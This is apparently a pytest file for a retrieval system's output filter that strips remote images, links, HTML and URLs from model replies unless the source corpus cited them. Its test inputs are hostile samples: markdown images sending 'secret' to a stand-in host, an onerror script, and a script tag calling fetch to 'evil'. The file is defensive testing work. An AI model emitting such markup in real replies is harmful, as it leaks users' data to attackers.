"""No remote image, link or HTML from model output reaches the user unless the corpus named it."""

from __future__ import annotations

import pytest

from retriever.output_filter import corpus_urls, strip_untrusted_markup


@pytest.mark.parametrize(
    ("reply", "expected"),
    [
        ("Fact. ![x](http://127.0.0.1:9/?d=secret)", "Fact. "),
        ('Fact. ![x](<http://evil/a.png> "title")', "Fact. "),
        ("Fact. ![x][ref]\n[ref]: http://evil/a.png", "Fact. \n"),
        ("See [the site](http://evil/?q=1).", "See the site."),
        ("Cited [1](http://evil/).", "Cited [1]."),
        ('Fact <img src="http://evil/x.png" onerror=alert(1)>.', "Fact ."),
        ("Fact <a href='http://evil'>here</a>.", "Fact here."),
        ("Fact <script>fetch('http://evil')</script>done.", "Fact done."),
        ("Fact <http://evil/x>.", "Fact ."),
        ("Visit http://evil.example/x?d=1 or www.evil.example now.", "Visit  or  now."),
        ("Data ![x](data:image/png;base64,AAAA) end.", "Data  end."),
    ],
)
def test_untrusted_markup_is_removed(reply, expected):
    assert strip_untrusted_markup(reply) == expected


def test_urls_written_in_the_corpus_are_kept():
    allowed = corpus_urls(["More at https://www.globalspaceexploration.org/annual-report."])
    assert "https://www.globalspaceexploration.org/annual-report" in allowed
    text = "Read [it](https://www.globalspaceexploration.org/annual-report)."
    assert strip_untrusted_markup(text, allowed) == text
    assert strip_untrusted_markup("![x](https://evil.example/p.png)", allowed) == ""


def test_plain_text_is_untouched():
    text = "ISECG had 26 members in 2020 [1]. Ratio 3 < 4 and 5 > 2."
    assert strip_untrusted_markup(text) == text
